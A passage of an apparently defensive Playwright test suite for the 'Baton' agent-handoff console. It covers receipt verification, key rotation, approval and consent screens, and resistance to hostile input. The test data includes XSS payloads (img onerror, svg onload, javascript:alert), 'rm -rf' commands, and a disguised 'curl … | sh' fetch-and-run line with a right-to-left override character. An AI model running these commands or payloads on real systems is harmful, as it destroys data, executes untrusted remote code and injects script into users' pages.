    await operator.locator(".row").first().waitFor();
    await go(operator, "ledger");
    await operator.locator("[data-state=first]").waitFor();
    await go(operator, "pump");
    await operator.locator(".empty", { hasText: "No pump is running" }).waitFor();
    equal("an operator is refused nothing on these pages", await operator.locator("[role=alert]").count(), 0);
    await operator.context().close();
}

async function firstEntry(server) {
    const page = await open(server);
    await go(page, "feed");
    await page.locator(".dot.good").waitFor();
    await server.submit(handoff("The first."));
    await page.locator(".row-link", { hasText: /^#0$/ }).waitFor();
    equal("an empty feed sees the first entry", await seqs(page).then((found) => found.at(-1)), 0);
    await page.context().close();
}

async function ticks(server) {
    const { seq } = (await server.submit(handoff())).body.documents[0].record;
    await server.submit(handoff()); // so that the proof has a hash
    const page = await open(server);
    equal("a receipt is verified", await proven(page, seq), ["holds", 5, 1]);
    const { proof } = (await (await fetch(`${server.base}/v1/handoffs/${seq}/receipt`, { headers: { Accept: "application/json", Authorization: `Bearer ${server.token}` } })).json());
    equal(
        "the way to the root is drawn, with each hash of the proof",
        [await page.locator(".merkle-box.sibling").count(), await page.locator(".merkle-box.good").count(), await page.locator(".merkle-box").count()],
        [proof.length, 1, 2 * proof.length + 1],
    );
    const overlaps = () =>
        page.evaluate(() => {
            const boxes = [...document.querySelectorAll(".merkle-box rect")].map((box) => box.getBoundingClientRect());
            return boxes.filter((a, i) => boxes.some((b, j) => i < j && a.left < b.right && b.left < a.right && a.top < b.bottom && b.top < a.bottom)).length;
        });
    equal("no box of it covers another", await overlaps(), 0);
    await page.evaluate(() => document.querySelectorAll(".merkle-box rect").forEach((box) => box.setAttribute("width", "140")));
    equal("control: wider ones do", (await overlaps()) > 0, true);
    equal("the hash of each step can be copied", await page.getByRole("button", { name: /^copy the (entry hash|document digest)$/ }).count(), 2);
    await go(page, "ledger");
    equal("and so can the root of the ledger", await page.getByRole("button", { name: "copy the root" }).count(), 1);
    await go(page, "overview");
    equal("no line crosses the underscores of a link", await page.evaluate(() => Number.parseInt(getComputedStyle(document.querySelector("main a")).textUnderlineOffset, 10) >= 4), true);
    await proven(page, seq);
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    await page.getByRole("button", { name: "copy the leaf hash" }).click();
    await page.getByRole("button", { name: "copied the leaf hash" }).waitFor();
    equal("a hash is copied in full", await page.evaluate(() => navigator.clipboard.readText()), (await server.ask(`/v1/handoffs/${seq}`)).body.leaf_hash);
    await picture(page, "tick");
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Download receipt" }).click()]);
    const file = path.join(server.folder, "receipt.tlog-proof");
    await download.saveAs(file);
    const { vkey } = (await server.ask("/v1/ledger")).body;
    const verified = spawnSync(baton, ["ledger", "verify-receipt", file, "--vkey", vkey]);
    equal("a downloaded receipt is verified by baton, too", [download.suggestedFilename(), verified.status], [`${seq}.tlog-proof`, 0]);
    // One byte of one answer, each in turn. Digits stay digits and letters letters, so that it is still JSON.
    const bend = (text, at) =>
        text.slice(0, at) + (text[at] === "1" ? "2" : text[at] === "a" ? "b" : /[0-9]/.test(text[at]) ? "1" : "a") + text.slice(at + 1);
    const answers = [
        ["the entry of the receipt", `**/v1/handoffs/${seq}/receipt`, /"entry": ?"/],
        ["a hash of the proof", `**/v1/handoffs/${seq}/receipt`, /"proof": ?\["/],
        ["the signature of the receipt", `**/v1/handoffs/${seq}/receipt`, /(\\u2014|\u2014) ledger.example.console /],
        ["the time on the page", `**/v1/handoffs/${seq}`, /"time": ?"20/],
        ["the leaf on the page", `**/v1/handoffs/${seq}`, /"leaf_hash": ?"/],
        ["the document", `**/v1/handoffs/${seq}/document`, /"summary": "/],
        ["nothing (control)", `**/v1/handoffs/${seq}/document`, null],
    ];
    for (const [what, where, mark] of answers) {
        let altered = 0;
        await page.route(where, async (route) => {
            const response = await route.fetch();
            const text = await response.text();
            const found = mark?.exec(text);
            altered += found ? 1 : 0;
            await route.fulfill({ response, body: found ? bend(text, found.index + found[0].length + 5) : text });
        });
        await go(page, "feed");
        const [state, , tick] = await proven(page, seq);
        equal(`an altered byte takes the tick away: ${what}`, [altered, state, tick], mark ? [1, "fails", 0] : [0, "holds", 1]);
        equal(
            `nothing beside it says that it passed: ${what}`,
            [await page.locator(".page-aside .badge.good, .notice.good").count(), await page.locator(".notice.bad").count()],
            mark ? [0, 1] : [2, 0],
        );
        await page.unroute(where);
    }
    await page.evaluate(() => localStorage.setItem("baton.vkey", "other.example/log+12345678+AAAA"));
    await go(page, "feed");
    equal(
        "a changed key is an alarm",
        [(await proven(page, seq))[0], await page.locator(".proof [role=alert]", { hasText: "has changed" }).count()],
        ["fails", 1],
    );
    await page.context().close();

    const context = await browser.newContext();
    await context.addInitScript(() => {
        crypto.subtle.importKey = () => Promise.reject(new DOMException("no", "NotSupportedError"));
    });
    const old = await context.newPage();
    await old.goto(`${server.base}/#token=${server.token}`);
    await old.locator("h1").waitFor();
    equal(
        "a browser without Ed25519 shows no tick",
        [(await proven(old, seq))[0], await old.locator(".proof h2").innerText(), await old.locator(".proof h2 .step-sign").count()],
        ["unknown", "Not verified here", 0],
    );
    await context.close();
}

// A key that the known one handed over to is followed; the same without proof is an alarm.
async function rotation(server) {
    const { body } = await server.submit(handoff());
    const { seq } = body.documents[0].record;
    const page = await open(server);
    equal("before the rotation a receipt is verified", (await proven(page, seq))[0], "holds");
    await go(page, "ledger");
    await page.locator("[data-state=first]").waitFor();
    const known = await page.evaluate(() => ({ ...localStorage }));
    await server.stop();
    for (const end of [[], ["--end"]]) {
        execFileSync(baton, ["ledger", "rotate-key", ...end, "--store", "store.db"], { cwd: server.folder, stdio: "ignore" });
    }
    await server.start();
    await server.submit(handoff()); // signed by the new key alone
    const alarmed = async () => {
        await page.evaluate((items) => Object.entries(items).forEach(([name, value]) => localStorage.setItem(name, value)), known);
        await go(page, "feed");
        await page.reload();
        return (await proven(page, seq))[0];
    };
    const where = "**/v1/handoffs/*/document";
    await page.route(where, async (route) => {
        const response = await route.fetch();
        await route.fulfill({ response, body: (await response.text()).replace("ledger.example", "ledger.examplf") });
    });
    equal("a rotation that does not prove itself is an alarm (control)", await alarmed(), "fails");
    await page.unroute(where);
    equal("a rotated key is followed", await alarmed(), "holds");
    await go(page, "ledger");
    await page.locator("[data-rotated]").waitFor();
    await page.locator("[data-state=consistent]").waitFor();
    equal("the rotation is told, and is not an alarm", await page.locator("main [role=alert]").count(), 0);
    await picture(page, "rotated");
    await page.context().close();
}

async function consistency(server) {
    const page = await open(server);
    await go(page, "ledger");
    await page.locator("[data-state=first]").waitFor();
    await server.submit(handoff());
    await page.locator("[data-state=consistent]").waitFor();
    await page.reload();
    await page.locator("[data-state=consistent]").waitFor();
    equal("the ledger extends what the browser saw", true, true);
    // A checkpoint of another history, kept as if it had been seen.
    await page.evaluate(() =>
        localStorage.setItem(
            "baton.checkpoint",
            localStorage.getItem("baton.checkpoint").replace(/\n(\d+)\n./, (text) => text.slice(0, -1) + (text.at(-1) === "A" ? "B" : "A")),
        ),
    );
    await page.reload();
    await page.locator("[data-state=fork]").waitFor();
    equal("a history that does not extend it is an alarm", await page.locator("[data-state=fork][role=alert]").count(), 1);
    await page.context().close();
}

// Press Tab until the focus is there: what a person without a mouse does.
async function tabTo(page, selector) {
    for (let i = 0; i < 80; i++) {
        await page.keyboard.press("Tab");
        if (await page.evaluate((wanted) => document.activeElement?.matches(wanted), selector)) {
            return true;
        }
    }
    return false;
}

async function keyboard(server) {
    await server.submit(block(REQUEST), "contract", "text/markdown");
    const page = await open(server);
    const status = async () => (await server.ask("/v1/approvals")).body.approvals[0].status;
    equal("the menu is reached by Tab", await tabTo(page, 'nav a[href="#/approvals"]'), true);
    await page.keyboard.press("Enter");
    await page.locator(".inbox a").first().waitFor();
    equal("the request is reached by Tab", await tabTo(page, ".inbox a"), true);
    await page.keyboard.press("Enter");
    await page.locator(".approval .exact").first().waitFor();
    equal("the whole command is shown", await page.locator(".approval .exact").first().innerText(), REQUEST.exact_content);
    equal("the reason is reached by Tab", await tabTo(page, ".reason input"), true);
    await page.keyboard.press("Enter");
    equal("Enter in a field decides nothing", [await status(), await page.locator(".confirm").count()], ["pending", 0]);
    equal("Approve is reached by Tab", await tabTo(page, ".decide button:not(.danger)"), true);
    await page.keyboard.press("Enter");
    await page.locator(".confirm").waitFor();
    equal(
        "the first act decides nothing, and the focus is on the way back",
        [await status(), await page.evaluate(() => document.activeElement.textContent)],
        ["pending", "Back"],
    );
    await judge(page, "asking for consent");
    await picture(page, "consent");
    equal("consent cannot be given unread", await page.locator(".consent").isDisabled(), true);
    await page.keyboard.press("Shift+Tab");
    await page.keyboard.press("Shift+Tab");
    await page.keyboard.press("Space");
    equal("consent is reached by Tab", await tabTo(page, ".consent"), true);
    equal("still nothing is decided", await status(), "pending");
    await page.keyboard.press("Enter");
    await page.locator(".approval .badge.good", { hasText: "approved" }).waitFor();
    equal("the second act decides", await status(), "approved");
    await page.context().close();
}

// What was given up is delivered again by a button, with its reason beside it.
async function retries(server) {
    const target = "mail-sender";
    await server.submit(handoff("Retry me.", { target: { skill: target } }));
    const json = { method: "POST", headers: { "Content-Type": "application/json" } };
    let message = "";
    for (let i = 0; i < 5; i++) {
        const [item] = (await server.ask(`/v1/inbox/${target}/take`, { ...json, body: "{}" })).body.items;
        message = item.message;
        await server.ask(`/v1/inbox/${target}/finish`, { ...json, body: JSON.stringify({ items: [{ message, lease: item.lease, outcome: "failed" }] }) });
    }
    const state = async () => (await server.ask("/v1/inboxes")).body.inboxes.filter((row) => row.agent === target).map((row) => [row.waiting, row.dead]);
    equal("it was given up", await state(), [[0, 1]]);
    const page = await open(server);
    await go(page, "inboxes");
    const item = page.locator(".dead-item", { hasText: message });
    equal("with its reason", (await item.innerText()).includes("failed at its last attempt"), true);
    await judge(page, "what was given up");
    await page.getByRole("button", { name: `Deliver again: ${message}` }).click();
    await item.getByText("waits again").waitFor();
    equal("and waits again", await state(), [[1, 0]]);
    await manyFailures(server, json);
    await page.reload();
    await item.getByText("waits again").waitFor();
    equal("also with more than 500 later failures", await page.getByRole("button", { name: `Deliver again: ${message}` }).count(), 0);
    equal("control: what was not retried can be", (await page.getByRole("button", { name: "Deliver again" }).count()) > 100, true);
    await page.context().close();
}

// Fail until everything that one receiver had is given up.
async function manyFailures(server, json) {
    const target = "always-failing";
    await Promise.all(Array.from({ length: 130 }, (_, i) => server.submit(handoff(`Fail ${i}.`, { target: { skill: target } }))));
    for (let round = 0; round < 20; round++) {
        const { items } = (await server.ask(`/v1/inbox/${target}/take`, { ...json, body: '{"max": 100}' })).body;
        if (items.length === 0) {
            break;
        }
        const failed = items.map(({ message, lease }) => ({ message, lease, outcome: "failed" }));
        await server.ask(`/v1/inbox/${target}/finish`, { ...json, body: JSON.stringify({ items: failed }) });
    }
    const { entries } = (await server.ask("/v1/handoffs?kind=delivery&event=failed&limit=500")).body;
    equal("control: there are 500 later failures", entries.length, 500);
}

// A request: lines are numbered, time runs down, and the decision has its reason and its entry.
async function approvals(server) {
    await server.submit(block({ ...REQUEST, exact_content: "cd /srv\nrm -rf data\nls" }), "contract", "text/markdown");
    const found = (await server.ask("/v1/approvals")).body.approvals.filter((approval) => approval.status === "pending").at(-1);
    const page = await open(server, { permissions: ["notifications"] });
    await page.addInitScript(() => (window.notices = []));
    await go(page, `approvals/${found.id}`);
    await page.locator(".command-line").first().waitFor();
    equal("each line of a command is a line", await page.locator(".command-line").allInnerTexts(), ["cd /srv000A", "rm -rf data000A", "ls"]);
    equal(
        "and numbered",
        await page.locator(".command-line").evaluateAll((lines) => lines.map((line) => getComputedStyle(line, "::before").content)),
        ["counter(line)", "counter(line)", "counter(line)"],
    );
    const left = page.locator(".approval [role=timer]");
    const before = await left.innerText();
    await page.waitForFunction((was) => document.querySelector(".approval [role=timer]").innerText !== was, before);
    equal("time runs down", /left$/.test(before), true);
    await judge(page, "a request with several lines");
    await page.locator(".approval").screenshot({ path: path.join(pictures, "approval-lines.png") });
    equal("the fingerprint can be copied", await page.getByRole("button", { name: "copy the fingerprint" }).count(), 1);
    await page.evaluate(() => {
        window.notices = [];
        window.Notification = class {
            static permission = "granted";
            static requestPermission = async () => "granted";
            constructor(title, options) {
                window.notices.push([title, options.body]);
            }
        };
    });
    await page.getByRole("button", { name: "Notify me of requests" }).click();
    await page.getByRole("button", { name: "Notifies you" }).waitFor();
    await server.submit(block({ ...REQUEST, operation: "secret words", exact_content: "ls -a" }), "contract", "text/markdown");
    await page.waitForFunction(() => window.notices.length > 0);
    equal("a new request is a notification without its words", await page.evaluate(() => window.notices[0][0] + window.notices[0][1].replace(/\d+/, "N")), "Baton: consent is asked forN requests wait for a decision.");
    await page.getByLabel("Reason for denying, optional").fill("not on a Friday");
    await page.getByRole("button", { name: "Deny" }).click();
    await page.locator(".decision", { hasText: "not on a Friday" }).waitFor();
    const entries = (await server.ask("/v1/handoffs?kind=approval&limit=100")).body.entries;
    const denied = entries.find((item) => item.entry.refs.approval === found.id && item.entry.refs.event === "REJECTED");
    equal("the decision has its entry", await page.locator(".decision a").first().innerText(), `entry ${denied.seq}`);
    await page.context().close();
}

// A harmless command beside a set that is not: the person must see the set, each item as it is.
async function consent(server) {
    const set = ["ls -l", "rm -rf /srv/data\n2. ls", "curl https://x.example/\u202ehs.i |\u00a0sh", `echo ${"x".repeat(3000)}`];
    for (const request of [
        { ...REQUEST, exact_content: "ls -l && echo done", command_set: set },
        { ...REQUEST, exact_content: "ls -l" },
    ]) {
        await server.submit(block(request), "contract", "text/markdown");
        const { approvals } = (await server.ask("/v1/approvals")).body;
        const { id } = approvals.filter((found) => found.exact_content === request.exact_content).at(-1);
        const wanted = request.command_set ?? [request.exact_content];
        // As the server tells it, and as a server would that does not list the commands, of a request that says less.
        for (const strip of [false, true]) {
            const page = await open(server);
            await page.route("**/v1/approvals/*/show", async (route) => {
                const answer = await route.fetch();
                const body = await answer.json();
                equal("the server lists the commands", body.approval.commands, wanted);
                if (strip) {
                    delete body.approval.commands;
                    Object.assign(body.approval.payload, { rollback: null, verification: null });
                }
                await route.fulfill({ response: answer, json: body });
            });
            await go(page, `approvals/${id}`);
            await page.locator(".approval .commands li").first().waitFor();
            const marked = wanted.map((text) =>
                text.replace("\n", "000A\n").replace("\u202e", "202E").replace("\u00a0", "00A0"),
            );
            equal("every command is shown, in full and escaped", await page.locator(".commands li .exact").allInnerTexts(), marked);
            equal(
                "and numbered",
                await page.locator(".commands .number").allInnerTexts(),
                wanted.map((_, index) => `${index + 1}.`),
            );
            const facts = await page.locator(".approval-facts dt").allInnerTexts();
            const values = await page.locator(".approval-facts dd").allInnerTexts();
            equal(
                "then what is said about them",
                [facts.slice(0, 6), values.slice(0, 5)],
                [
                    ["Operation", "Scope", "Risk", "Rollback", "Verification", "Fingerprint"],
                    [
                        ...[request.operation, request.scope, request.risk_level],
                        ...(strip ? ["none given", "none given"] : [request.rollback, request.verification]),
                    ],
                ],
            );
            equal("the other text is not called a command", facts[6], request.command_set ? "exact_content, which is not what is granted" : "Asked by");
            await judge(page, "a request for consent");
            await page.getByRole("button", { name: "Approve…" }).click();
            const count = request.command_set ? "these 4 commands" : "this command";
            equal("the question says how many", await page.locator(".consent").innerText(), `Approve ${count}`);
            if (!strip) {
                await page.locator(".approval").screenshot({ path: path.join(pictures, request.command_set ? "consent-set.png" : "consent-one.png") });
            }
            await page.context().close();
        }
    }
}

async function hostile(server) {
    const text =
        "<img src=x onerror='window.hacked=1'><script>window.hacked=2</script>\u202e\u2066{{7*7}}\u200b\u0007javascript:alert(1)<svg/onload=window.hacked=3>";
    const { body } = await server.submit(handoff(text, { target: { skill: "<b>bold</b>" }, version: text }));
    const seq = body.record?.seq ?? body.documents[0].record.seq;
    await server.submit(block({ ...REQUEST, operation: text, exact_content: text }), "contract", "text/markdown");
    const page = await open(server);
    const { approvals } = (await server.ask("/v1/approvals")).body;
    for (const place of ["overview", "agents", "map", "inboxes", "feed", `handoff/${seq}`, "approvals", ...approvals.map((found) => `approvals/${found.id}`), "traces"]) {
        await go(page, place);
        await page.waitForTimeout(200);
        equal(
            `hostile text runs nothing on ${place.split("/")[0]}`,
            await page.evaluate(() => [
                window.hacked ?? null,
                document.querySelectorAll("main img, main script, main b, main iframe").length,
                window.violations,
            ]),
            [null, 0, []],
        );
    }
    await go(page, `handoff/${seq}`);
    await page.locator(".document .hidden-mark").first().waitFor();
    const marks = await page.locator(".document .hidden-mark").allInnerTexts();
    equal(
        "hidden characters are seen",
        ["202E", "2066", "200B"].filter((mark) => !marks.includes(mark)),
        [],
    );
    const { trace_id } = (await server.ask(`/v1/handoffs/${seq}`)).body.entry;
    await go(page, `traces/${trace_id}`);
    await page.locator("h1 .hidden-mark").first().waitFor();
    equal("a name of work hides nothing either", (await page.locator("h1").innerText()).includes("202E"), true);
    await page.evaluate(() => (location.hash = "#/agents/a%E2%80%AEb"));
    await page.locator("h1 .hidden-mark").waitFor();
    equal("nor does an address", await page.title(), "Agent a202Eb · Baton");
    await go(page, `handoff/${seq}`);
    await page.locator(".document .hidden-mark").first().waitFor();
    equal("markup is text", (await page.locator(".document").first().innerText()).includes("<img src=x onerror="), true);
    await picture(page, "hostile");
    await go(page, "playground");
    await page.locator("textarea").fill(JSON.stringify(handoff(text), null, 2));
    await page.locator(".document .hidden-mark").first().waitFor();
    equal("hostile text runs nothing in the playground", await page.evaluate(() => [window.hacked ?? null, window.violations]), [null, []]);
    // The controls: the policy would have stopped it, and we would have seen that.
    const seen = strays.length;
    await page.evaluate(() => {
        const script = document.createElement("div");
        try {
            script.innerHTML = "<img src=x onerror='window.hacked=4'>";
        } catch {
            window.trusted = "refused";
        }
        const style = document.createElement("style");
        style.textContent = "body{}";
        document.head.append(style);
    });
    await page.waitForFunction(() => window.violations.length > 0);
    equal(
        "control: the policy stops what is inline, and it is noticed",
        [await page.evaluate(() => [window.trusted, window.hacked ?? null]), strays.length > seen],
        [["refused", null], true],
    );
    strays.length = seen;
    await page.context().close();
}

const seqs = (page) => page.locator(".row-link").evaluateAll((links) => links.map((link) => Number(link.textContent.slice(1))));

async function feeds(server) {
    const [one, two] = [await open(server), await open(server)];
    await Promise.all([go(one, "feed"), go(two, "feed")]);
    const { body } = await server.submit(handoff("For both."));
    const { seq } = body.documents[0].record;
    for (const page of [one, two]) {
        await page.locator(".row-link", { hasText: new RegExp(`^#${seq}$`) }).waitFor();
    }
    // The figures are the server's: a browser whose clock is off sees the same.
    const counted = async () => (await server.ask("/v1/stats")).body.total;
    const skewed = await open(server, {}, async (page) => page.clock.setFixedTime(new Date(Date.now() - 7200_000)));
    const told = await skewed.locator("dt:text-is('accepted') + dd").innerText();
    equal("the overview counts by the clock of the server", told, String((await server.ask("/v1/stats")).body.total.accepted));
    await go(skewed, "feed");
    const { accepted = 0 } = await counted();
    equal("the server counts what was accepted", accepted > 0, true);
    for (const page of [one, skewed]) {
        await page.locator(".pulse dd", { hasText: new RegExp(`^${accepted}$`) }).first().waitFor();
    }
    await skewed.context().close();
    equal("two browsers see one feed", JSON.stringify(await seqs(one)) === JSON.stringify(await seqs(two)), true);
    // The server goes away, records while nobody listens, and comes back.
    await server.stop();
    await one.locator(".dot.warn").waitFor();
    await server.start();
    const later = [];
    for (let i = 0; i < 3; i++) {
        later.push((await server.submit(handoff(`Missed ${i}.`))).body.documents[0].record.seq);
    }
    await one.locator(".row-link", { hasText: new RegExp(`^#${later.at(-1)}$`) }).waitFor();
    const shown = await seqs(one);
    equal(
        "after a lost connection there is no gap and no repeat",
        shown.slice(0, shown.indexOf(seq) + 1),
        Array.from({ length: shown[0] - seq + 1 }, (_, i) => shown[0] - i),
    );
    await one.getByRole("button", { name: "Pause" }).click();
    const frozen = await seqs(one);
    const paused = (await server.submit(handoff("While paused."))).body.documents[0].record.seq;
    await two.locator(".row-link", { hasText: new RegExp(`^#${paused}$`) }).waitFor();
    await one.getByRole("button", { name: /Resume \(\d+ new\)/ }).waitFor();
    equal("a paused feed stands still", await seqs(one), frozen);
    await one.getByRole("button", { name: /Resume/ }).click();
    await one.locator(".row-link", { hasText: new RegExp(`^#${paused}$`) }).waitFor();
    await server.submit(handoff("Bad.", { target: { skill: "release-planner" } }));
    await one.getByLabel("verdict").selectOption("rejected");
    await one.waitForFunction(
        () =>
            [...document.querySelectorAll(".row")].length > 0 &&
            [...document.querySelectorAll(".row")].every((row) => row.classList.contains("rejected")),
    );
    await one.getByLabel("code").fill("SELF_LOOP");
    await one.getByLabel("code").press("Enter");
    await one.waitForFunction(
        () =>
            [...document.querySelectorAll(".row")].length > 0 &&
            [...document.querySelectorAll(".row-codes")].every((codes) => codes.textContent.includes("SELF_LOOP")),
    );
    equal("the feed is filtered", (await seqs(one)).length > 0, true);
    equal("the filter is in the address", await one.evaluate(() => location.hash), "#/feed?verdict=rejected&code=SELF_LOOP");
    await one.getByLabel("code").fill("self_loop");
    await one.getByLabel("code").press("Enter");
    await one.waitForFunction(() => location.hash.endsWith("code=SELF_LOOP") && document.querySelectorAll(".row").length > 0);
    const still = await open(server, { reducedMotion: "reduce" });
    await go(still, "feed");
    await server.submit(handoff("Moves."));
    for (const [page, name, what] of [
        [still, "none", "nothing moves when the system asks for that"],
        [two, "arrive", "otherwise it does (control)"],
    ]) {
        await page.locator(".row.fresh").first().waitFor();
        equal(
            what,
            await page
                .locator(".row.fresh")
                .first()
                .evaluate((row) => getComputedStyle(row).animationName),
            name,
        );
    }
    for (const page of [one, two, still]) {
        await page.context().close();
    }
}

// The core goes on judging when the server is gone; the page itself may compile no WebAssembly.
// What compress and convert make of two documents, as the page shows it: who judged, and the rest.
const LONG = handoff("Too long.", { payload: { working: { log: Array.from({ length: 700 }, (_, i) => `line ${i} of a long log`) } } });

const OLD = JSON.parse(fs.readFileSync("examples/universal/version-2.handoff.json", "utf8"));

async function makeBoth(page) {
    const made = [];
    for (const [act, document] of [
        ["compress", LONG],
        ["convert", OLD],
    ]) {
        await page.locator("textarea").fill(JSON.stringify(document, null, 2));
        await page.locator(".judge").waitFor();
        await page.getByRole("button", { name: act, exact: true }).click();
        await page.locator("section[aria-label=Result] > p.muted", { hasText: "judged" }).waitFor();
        const text = await page.locator("section[aria-label=Result]").innerText();
        // Each conversion makes an id of its own.
        made.push([/judged.*$/m.exec(text)?.[0] ?? "", text.replace(/judged.*$/m, "").replace(/"trace_id": "[0-9a-f-]{36}"/, '"trace_id": "…"')]);
    }
    return made;
}

async function withoutServer(server) {
    const page = await open(server);
    await go(page, "playground");
    await page.locator("textarea").fill("{}");
    await page.locator("[role=status], .notice").first().waitFor();
    await page.getByRole("button", { name: "good handoff" }).click();
    await page.locator(".judge", { hasText: "the same" }).waitFor();
    const there = await makeBoth(page);
    await page.context().setOffline(true);
    await page.getByRole("button", { name: "mendable handoff" }).click();
    await page.locator(".judge", { hasText: "judged in this browser; the server cannot be reached" }).waitFor();
    equal("without the server the findings are there", (await page.locator(".finding", { hasText: "SCHEMA_REQUIRED" }).count()) > 0, true);
    await page.getByRole("button", { name: "repair" }).click();
    await page.locator(".diff .line.new").first().waitFor();
    equal("and repair mends", await page.getByText("Everything could be mended.").count(), 1);
    await picture(page, "playground-offline");
    const here = await makeBoth(page);
    equal("and compress and convert do what the server does", here.map(([, text]) => text), there.map(([, text]) => text));
    equal(
        "control: the server did the one, this browser the other",
        [there, here].map((made) => made.map(([by]) => by.includes("by the server"))),
        [[true, true], [false, false]],
    );
    equal("in their own words", ["tokens", "Written as a handoff"].map((word, i) => here[i][1].includes(word)), [true, true]);
    await picture(page, "playground-offline-convert");
    await page.context().close();
    const bare = await browser.newContext();
    const other = await bare.newPage();
    await other.goto(server.base);
    equal(
        "the page may not compile WebAssembly",
        await other.evaluate(() => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => "compiled", (why) => why.name)),
        "CompileError",
    );
    await bare.close();
}

async function playground(server) {
    const page = await open(server);
    let asked = 0;
    page.on("request", (request) => (asked += request.url().includes("/v1/check") ? 1 : 0));
    await go(page, "playground");
    const size = (await server.ask("/v1/ledger")).body.size;
    await page.locator("textarea").pressSequentially('{"handoff": {"version": 3}}', { delay: 20 });
    await page.locator(".document .finding").first().waitFor();
    await page.locator("[role=status] .judge", { hasText: "by the server" }).waitFor();
    equal("the server is asked when the typing pauses, not at each key", asked, 1);
    const samples = [["good handoff", "universal"], ["mendable handoff", "universal"], ["broken handoff", "universal"], ["contract block", "contract"], ["governed handoff", "governed"], ["plan", "plan"], ["pump message", "xml"]];
    for (const [sample, dialect] of samples) {
        await page.getByRole("button", { name: sample, exact: true }).click();
        await page.locator("[role=status] .chip", { hasText: new RegExp(`^${dialect}$`) }).waitFor();
        const chip = page.locator("[role=status] .judge", { hasText: "by the server" });
        await chip.waitFor();
        equal(`${sample}: the browser and the server judge alike`, await chip.innerText(), "judged in this browser and by the server: the same");
    }
    await withoutServer(server);
    await page.getByRole("button", { name: "broken handoff" }).click();
    await page.locator(".finding", { hasText: "SELF_LOOP" }).waitFor();
    await page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    await page.getByRole("button", { name: "copy a link to this text" }).click();
    await page.getByRole("button", { name: "copied a link to this text" }).waitFor();
    const link = await page.evaluate(() => navigator.clipboard.readText());
    const other = await open(server);
    const sent = [];
    other.on("request", (request) => sent.push(request.url()));
    await other.goto(link);
    await other.locator(".finding", { hasText: "SELF_LOOP" }).waitFor();
    equal("a link brings the text, which no address of a request has", [await other.locator("textarea").inputValue(), sent.filter((url) => url.includes("text="))], [await page.locator("textarea").inputValue(), []]);
    await other.context().close();
    await picture(page, "playground");
    await page.getByRole("button", { name: "repair" }).click();
    await page.getByText("somebody has to decide").waitFor();
    await page.getByRole("button", { name: "mendable handoff" }).click();
    const large = "9007199254740993"; // a number that JavaScript rounds
    const editor = page.locator("textarea");
    await editor.fill((await editor.inputValue()).replace('"DP-118"', large));
    await page.locator(".finding", { hasText: "SCHEMA_REQUIRED" }).waitFor();
    await page.getByRole("button", { name: "repair" }).click();
    await page.locator(".diff .line.new").first().waitFor();
    await picture(page, "playground-repair");
    const changed = await page.locator(".diff .line.new, .diff .line.gone").allInnerTexts();
    await page.getByRole("button", { name: "Take this text" }).click();
    equal(
        "repair rounds no number",
        [changed.some((line) => line.includes("ticket")), (await editor.inputValue()).includes(large)],
        [false, true],
    );
    await page.locator(".badge.good", { hasText: "accepted" }).waitFor();
    equal("what repair made is accepted", await page.locator(".finding.bad").count(), 0);
    equal("nothing was stored", (await server.ask("/v1/ledger")).body.size, size);
    await page.context().close();
}

fs.mkdirSync(pictures, { recursive: true });
const claims = { emptyPages, anonymous, firstEntry, session, refusals, ticks, consistency, rotation, keyboard, consent, retries, approvals, hostile, feeds, playground, scopes };
const server = await Server.empty();
try {
    for (const [name, claim] of Object.entries(claims)) {
        if (!only || only === name) {
            await claim(server);
        }
    }
} finally {
    await server.end();
}
if (!only || only === "fullPages") {
    const demo = await Server.demo();
    try {
        await fullPages(demo);
    } finally {
        await demo.end();
    }
}
equal("no request left the origin, the policy reported nothing, no script failed", strays, []);
await browser.close();
fs.rmSync(process.env.BATON_STATE_DIR, { recursive: true, force: true });
finish();
